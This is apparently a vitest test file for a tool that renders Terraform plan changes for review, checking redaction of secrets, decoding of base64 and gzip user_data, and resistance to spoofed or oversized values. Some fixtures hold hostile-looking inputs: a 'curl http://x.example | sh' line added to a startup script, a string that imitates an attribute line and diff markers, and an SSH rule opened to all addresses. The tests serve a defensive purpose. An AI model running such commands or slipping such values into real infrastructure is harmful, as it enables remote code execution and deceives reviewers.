import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { redactor } from '../../src/redact.ts'
import { lineText } from '../../src/terraform/diff/line.ts'
import { pathText, rawPathText } from '../../src/terraform/diff/path.ts'
import { readYaml } from '../../src/terraform/diff/yaml.ts'
import { type DiffOptions, diffLines } from '../../src/terraform/diff.ts'
import type { Change } from '../../src/terraform/json.ts'
import type { Kind } from '../../src/terraform/kind.ts'

const asItIs = (text: string) => text
const texts = (change: Change, kind: Kind, redact = asItIs, options: DiffOptions = {}) =>
  diffLines(change, kind, redact, options).map(lineText)
const update = (change: Partial<Change>, options: DiffOptions = {}) =>
  texts({ actions: ['update'], ...change }, 'update', asItIs, options)

describe('an attribute', () => {
  test('that stays is not listed', () => {
    expect(update({ before: { a: 1, b: [1] }, after: { a: 1, b: [1] } })).toEqual([])
  })

  test('that changes, comes or goes is listed with its old and new values', () => {
    expect(update({ before: { a: 1, b: 'x' }, after: { a: 2, c: false } })).toEqual([
      '- a = 1',
      '+ a = 2',
      '- b = "x"',
      '+ c = false',
    ])
  })

  test('that is null is one that is not set', () => {
    expect(update({ before: { a: null, b: '' }, after: { a: '', b: null } })).toEqual(['+ a = ""', '- b = ""'])
  })

  test('that is unknown until apply is marked, in a list and whole', () => {
    expect(
      update({
        before: { a: 'x', b: [{ c: 1 }] },
        after: { b: [{}] },
        after_unknown: { a: true, b: [{ c: true }], d: true },
      }),
    ).toEqual(['! a = "x" → (known after apply)', '! d = (known after apply)', '! b[0].c = 1 → (known after apply)'])
  })

  test('that forces a replacement is marked, with what is below it', () => {
    const change = { before: { a: { b: 1 }, ab: 1 }, after: { a: { b: 2 }, ab: 2 }, replace_paths: [['a']] }
    expect(update(change)).toEqual(['- a.b = 1', '+ a.b = 2  # forces replacement', '- ab = 1', '+ ab = 2'])
  })

  test('that is JSON in a string is compared by what it says', () => {
    const policy = (action: string, spaces: number) => JSON.stringify({ Statement: [{ Action: action }] }, null, spaces)
    expect(update({ before: { policy: policy('s3:Get', 0) }, after: { policy: policy('s3:Get', 2) } })).toEqual([
      '! policy = (the same JSON, written differently)',
    ])
    expect(update({ before: { policy: policy('s3:Get', 0) }, after: { policy: policy('s3:*', 2) } })).toEqual([
      '- policy.Statement[0].Action = "s3:Get"',
      '+ policy.Statement[0].Action = "s3:*"',
    ])
  })

  test('with a name or value from outside stays on its line, and is cut where it is long', () => {
    const lines = update({ before: {}, after: { 'a\nb': 'c\n+ d\u202e', e: 'f'.repeat(1_000) } })
    expect(lines.slice(0, 3)).toEqual(['@@ -0,0 +1,2 @@ ["a\\nb"]', '+ | c', '+ | + d\\u{202e}'])
    expect(lines[3]).toMatch(/^\+ e = "f{400}"… \(1000 characters\)$/)
    expect(lines).toHaveLength(4)
  })
})

describe('a sensitive value', () => {
  test('is hidden at any depth, and so is everything in it', () => {
    const lines = update({
      before: { list: [{ key: 'old-secret', open: 1 }], whole: { a: 'secret-a' } },
      after: { list: [{ key: 'new-secret', open: 2 }], whole: { a: 'secret-b' } },
      before_sensitive: { list: [{ key: true }], whole: true },
      after_sensitive: { list: [{ key: true }], whole: true },
    })
    expect(lines.join('\n')).not.toContain('secret-')
    expect(lines.join('\n')).not.toMatch(/(old|new)-secret/)
    expect(lines).toContain('! list[0].key = (sensitive value) → (sensitive value)')
    expect(lines).toContain('! whole = (sensitive value) → (sensitive value)')
  })

  test('that stops being sensitive is listed without its old value', () => {
    expect(update({ before: { a: 'was-secret' }, after: { a: 'open' }, before_sensitive: { a: true } })).toEqual([
      '- a = (sensitive value)',
      '+ a = "open"',
    ])
  })
})

test('a created or destroyed resource has only one side', () => {
  expect(
    texts(
      { actions: ['create'], before: null, after: { a: 1, b: null }, after_unknown: { id: true } },
      'create',
      text => text,
    ),
  ).toEqual(['+ a = 1', '# known after apply: id'])
  expect(texts({ actions: ['delete'], before: { a: 1 }, after: null }, 'delete', text => text)).toEqual(['- a = 1'])
})

test.each([
  [[], ''],
  [['a'], 'a'],
  [['a', 0, 'b'], 'a[0].b'],
  [['a', 'b.c'], 'a["b.c"]'],
  [['é', '"'], '["é"]["\\""]'],
] as const)('the path %j is %s', (path, words) => {
  expect(pathText(path, text => text)).toBe(words)
  expect(rawPathText(path)).toBe(words)
})

test('a secret that changes is seen to change, in its place and inside other values', () => {
  const redact = redactor(['old-password', 'new-password'])
  const lines = texts(
    {
      actions: ['update'],
      before: { password: 'old-password', url: 'https://me:old-password@host', same: 1 },
      after: { password: 'new-password', url: 'https://me:new-password@host', same: 1 },
      before_sensitive: { password: true },
      after_sensitive: { password: true },
    },
    'update',
    redact,
  )
  expect(lines).toEqual([
    '! password = (sensitive value) → (sensitive value)',
    '! url = "https://me:***@host" → "https://me:***@host"',
  ])
})

test('a secret at the place where a long value is shortened is not shown in half', () => {
  const secret = 'correct-horse-battery-staple'
  const after = { text: `${'x'.repeat(385)}${secret}${'y'.repeat(100)}` }
  const [line] = texts({ actions: ['create'], before: null, after }, 'create', redactor([secret]))
  expect(line).not.toContain('correct')
})

test('an object that becomes unknown as a whole does not look removed', () => {
  expect(update({ before: { tags: { a: 1, b: 2 } }, after: {}, after_unknown: { tags: true } })).toEqual([
    '! tags = (known after apply)',
  ])
})

/** A version of a script of twenty lines with a last line. */
const script = (last: string) =>
  `#!/bin/bash\n${Array.from({ length: 20 }, (_, n) => `echo ${n}`).join('\n')}\n${last}\n`

describe('a text', () => {
  test('of several lines shows the line that changes at its end, with three lines before it', () => {
    expect(
      update({
        before: { user_data: script('echo done') },
        after: { user_data: script('curl http://x.example | sh') },
      }),
    ).toEqual([
      '@@ -19,4 +19,4 @@ user_data',
      '  | echo 17',
      '  | echo 18',
      '  | echo 19',
      '- | echo done',
      '+ | curl http://x.example | sh',
    ])
  })

  test('inside of base64 is shown as text', () => {
    const encoded = (last: string) => Buffer.from(script(last)).toString('base64')
    const lines = update({ before: { user_data: encoded('echo done') }, after: { user_data: encoded('curl x | sh') } })
    expect(lines[0]).toBe('@@ -19,4 +19,4 @@ base64decode(user_data)')
    expect(lines).toContain('+ | curl x | sh')
  })

  test('packed by gzip inside of base64 is shown as text, and bytes that only begin like gzip are not', () => {
    const encoded = (last: string) => gzipSync(script(last)).toString('base64')
    const lines = update({ before: { user_data: encoded('echo done') }, after: { user_data: encoded('curl x | sh') } })
    expect(lines[0]).toBe('@@ -19,4 +19,4 @@ base64gunzip(user_data)')
    expect(lines).toContain('+ | curl x | sh')
    const broken = (n: number) => Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.alloc(60, n)]).toString('base64')
    const raw = update({ before: { user_data: broken(1) }, after: { user_data: broken(2) } })
    expect(raw.join('\n')).not.toContain('base64gunzip')
    expect(raw.join('\n')).toContain('H4s')
  })

  test('cannot pass for an attribute, whatever its lines are', () => {
    const lines = update({ before: { a: 'x\ny' }, after: { a: 'x\n+ image = "trusted"\n@@ -1 +1 @@ b\n```\ny' } })
    expect(lines).toEqual([
      '@@ -1,2 +1,5 @@ a',
      '  | x',
      '+ | + image = "trusted"',
      '+ | @@ -1 +1 @@ b',
      '+ | ```',
      '  | y',
    ])
  })

  test('that differs only in the ends of its lines shows them', () => {
    expect(update({ before: { a: 'x\ny\nz' }, after: { a: 'x\r\ny\r\nz' } })).toContain('+ | x\\r')
  })

  test('of one long line is cut around each difference, and further ones are counted', () => {
    const words = (changed: readonly number[]) =>
      Array.from({ length: 300 }, (_, n) => (changed.includes(n) ? `new${n}` : `word${n}`)).join(' ')
    const one = update({ before: { a: words([]) }, after: { a: words([290]) } })
    expect(one).toHaveLength(2)
    expect(one[0]).toContain(' word290 ')
    expect(one[1]).toContain(' new290 ')
    expect(one.join().length).toBeLessThan(300)
    const many = update({ before: { a: words([]) }, after: { a: words([10, 60, 110, 160, 210]) } })
    expect(many).toHaveLength(7)
    expect(many[6]).toBe('# 2 more differences in a')
  })

  test('of YAML is compared as a structure, unless that would hide something', () => {
    const document = (n: string, more = '') => `"name": "server"\n"steps":\n- "name": "boot"\n  "run": ${n}\n${more}`
    const yaml = (before: string, after: string) => update({ before: { a: before }, after: { a: after } }, { readYaml })
    expect(yaml(document('1'), document('2'))).toEqual(['- a.steps["boot"].run = 1', '+ a.steps["boot"].run = 2'])
    // YAML 1.1 reads one of them as a boolean.
    expect(yaml(document('no'), document('"no"'))).toEqual([
      '- a.steps["boot"].run = no',
      '+ a.steps["boot"].run = "no"',
    ])
    for (const more of ['# a comment\n', '"name": "twice"\n', '"x": *alias\n', '"x": !tag 1\n'])
      expect(yaml(document('1'), document('1', more)).join('\n')).toContain(`+ | ${more.trim()}`)
  })

  test('of JSON that a value does not represent is compared as text', () => {
    const repeated = ['{"a": 1, "a": 2}', '{"a": 3, "a": 2}'] as const
    expect(update({ before: { p: repeated[0] }, after: { p: repeated[1] } }).join()).toContain('\\"a\\": 3')
    const digits = ['[12345678901234567890]', '[12345678901234567891]'] as const
    expect(update({ before: { p: digits[0] }, after: { p: digits[1] } })).toHaveLength(2)
  })
})

describe('a list', () => {
  const variables = Array.from({ length: 31 }, (_, n) => ({ name: `V${n}`, value: `${n}` }))
  const containers = (image: string, environment: readonly object[]) =>
    JSON.stringify([{ name: 'server', environment, image, portMappings: [{ containerPort: 80, hostPort: 80 }] }])

  test('of named objects shows the one that is added, after the image', () => {
    expect(
      update({
        before: { container_definitions: containers('a:1', variables) },
        after: { container_definitions: containers('a:2', [{ name: 'NEW', value: '1' }, ...variables]) },
      }),
    ).toEqual([
      '- container_definitions["server"].image = "a:1"',
      '+ container_definitions["server"].image = "a:2"',
      '+ container_definitions["server"].environment[0] = { name = "NEW", value = "1" }',
    ])
  })

  test('of statements shows the one that is inserted', () => {
    const statement = (Sid: string) => ({ Sid, Effect: 'Allow', Action: ['s3:Get*'], Resource: '*' })
    const policy = (...ids: string[]) => ({ policy: JSON.stringify({ Statement: ids.map(statement) }) })
    expect(update({ before: policy('A', 'B'), after: policy('New', 'A', 'B') })).toEqual([
      '+ policy.Statement[0] = { Sid = "New", Effect = "Allow", Resource = "*", Action = ["s3:Get*"] }',
    ])
  })

  test('of rules, which Terraform keeps as a set, shows the one that is added', () => {
    const rule = (port: number, cidr: string) => ({
      from_port: port,
      to_port: port,
      cidr_blocks: [cidr],
      description: '',
    })
    const before = { ingress: [rule(443, '10.0.0.0/8'), rule(80, '10.0.0.0/8')] }
    const after = { ingress: [rule(22, '0.0.0.0/0'), ...before.ingress] }
    expect(update({ before, after })).toEqual([
      '+ ingress[0] = { from_port = 22, to_port = 22, cidr_blocks = ["0.0.0.0/0"], description = "" }',
    ])
  })

  test('is in natural order', () => {
    const list = (changed: boolean) =>
      Array.from({ length: 12 }, (_, n) => (changed && (n === 1 || n === 10) ? 'x' : n))
    const paths = update({ before: { l: list(false) }, after: { l: list(true) } }).map(each => each.split(' ')[1])
    expect(paths).toEqual(['l[1]', 'l[1]', 'l[10]', 'l[10]'])
  })

  test('shows what has moved as moved, and not as gone and new', () => {
    expect(update({ before: { l: ['a', 'b', 'c'] }, after: { l: ['c', 'a', 'b'] } })).toEqual([
      '! l[0] = "c"  # moved from [2]',
    ])
    const named = (...names: string[]) => ({ l: names.map(name => ({ name, v: 1 })) })
    expect(update({ before: named('a', 'b', 'c'), after: named('c', 'a', 'b') })).toEqual([
      '! l["c"]  # moved from [2] to [0]',
    ])
  })

  test('keeps the head of a long member, whose parts alone would be those of another one', () => {
    const member = (n: number) => ({ name: `n${n}`, text: 'x'.repeat(120), other: 'y'.repeat(100) })
    expect(update({ before: { l: [member(1), member(2)] }, after: { l: [member(1), member(2), member(3)] } })[0]).toBe(
      '+ l[2]  # added',
    )
  })
})

describe('the order', () => {
  test('is what decides first, then what is outside of lists, lists and tags, and what is computed last', () => {
    const lines = update(
      {
        before: {
          tags: { a: '1' },
          list: [1, 2],
          zone: 'a',
          image: 'x:1',
          name: 'a',
          arn: 'arn:1',
          cidr_block: '10.0.0.0/8',
        },
        after: { tags: { a: '2' }, list: [1, 3], zone: 'b', image: 'x:2', name: 'b', cidr_block: '10.1.0.0/16' },
        after_unknown: { arn: true, id: true },
        replace_paths: [['name']],
      },
      { configured: new Set(['tags', 'list', 'zone', 'image', 'name', 'cidr_block']) },
    )
    expect(lines.map(each => /^. ([\w ]+)/.exec(each)?.[1]?.trim())).toEqual([
      ...['name', 'name', 'cidr_block', 'cidr_block', 'image', 'image', 'zone', 'zone', 'list', 'list', 'tags', 'tags'],
      'known after apply',
    ])
    expect(lines.at(-1)).toBe('# known after apply: arn, id')
  })

  test('of tags_all has only what tags has not', () => {
    const tags = (a: string, team: string) => ({ tags: { a }, tags_all: { a, team } })
    expect(update({ before: tags('1', 'x'), after: tags('2', 'x') })).toEqual(['- tags.a = "1"', '+ tags.a = "2"'])
    expect(update({ before: tags('1', 'x'), after: tags('1', 'y') })).toEqual([
      '- tags_all.team = "x"',
      '+ tags_all.team = "y"',
    ])
  })
})

describe('a secret', () => {
  test('in a window, in a line or in a document is hidden, and its change is seen', () => {
    const redact = redactor(['old-password', 'new-password'])
    const forms = (secret: string) => ({
      line: `${'x'.repeat(300)}${secret}${'y'.repeat(300)}`,
      lines: `a\n${secret}\nb`,
      document: JSON.stringify({ key: secret, other: 1 }),
      encoded: Buffer.from(`export KEY=${secret}\nexport MORE=${'z'.repeat(40)}\n`).toString('base64'),
    })
    const lines = texts(
      { actions: ['update'], before: forms('old-password'), after: forms('new-password') },
      'update',
      redact,
    )
    expect(lines.join('\n')).not.toContain('password')
    for (const name of ['line', 'lines', 'document.key', 'base64decode(encoded)'])
      expect(
        lines.some(each => each.includes(name)),
        name,
      ).toBe(true)
  })
})

describe('hostile values are read in little time', () => {
  const long = (n: number, of: (n: number) => string, by: string) => Array.from({ length: n }, (_, k) => of(k)).join(by)
  const random = (n: number) => String((n * 2_654_435_761) % 4_294_967_296)
  const cases: Record<string, readonly [unknown, unknown]> = {
    'lines that all differ': [long(10_000, n => random(n), '\n'), long(10_000, n => random(n + 7), '\n')],
    'the same lines in reverse': [long(10_000, n => `${n}`, '\n'), long(10_000, n => `${9_999 - n}`, '\n')],
    'words that all differ': [long(20_000, n => random(n), ' '), long(20_000, n => random(n + 3), ' ')],
    'members that all differ': [
      Array.from({ length: 10_000 }, (_, n) => n),
      Array.from({ length: 10_000 }, (_, n) => -n - 1),
    ],
    'objects without a name': [
      Array.from({ length: 2_000 }, (_, n) => ({ a: [n], b: [n] })),
      Array.from({ length: 2_000 }, (_, n) => ({ a: [n], b: [n + 1] })),
    ],
    'one text of 2 MB': [`${'a b '.repeat(500_000)}x`, `${'a b '.repeat(500_000)}y`],
    'deep nesting': [
      JSON.parse(`${'['.repeat(500)}1${']'.repeat(500)}`),
      JSON.parse(`${'['.repeat(500)}2${']'.repeat(500)}`),
    ],
  }

  test.each(Object.keys(cases))('%s', name => {
    const [before, after] = cases[name] ?? []
    const cpu = process.cpuUsage()
    const lines = update({ before: { a: before }, after: { a: after } }, { readYaml })
    const { user, system } = process.cpuUsage(cpu)
    expect(lines.length).toBeGreaterThan(0)
    // Each takes less than a tenth of this; what is quadratic takes minutes.
    expect((user + system) / 1000).toBeLessThan(5_000)
    expect(Math.max(...lines.map(each => each.length))).toBeLessThan(5_000)
  })
})
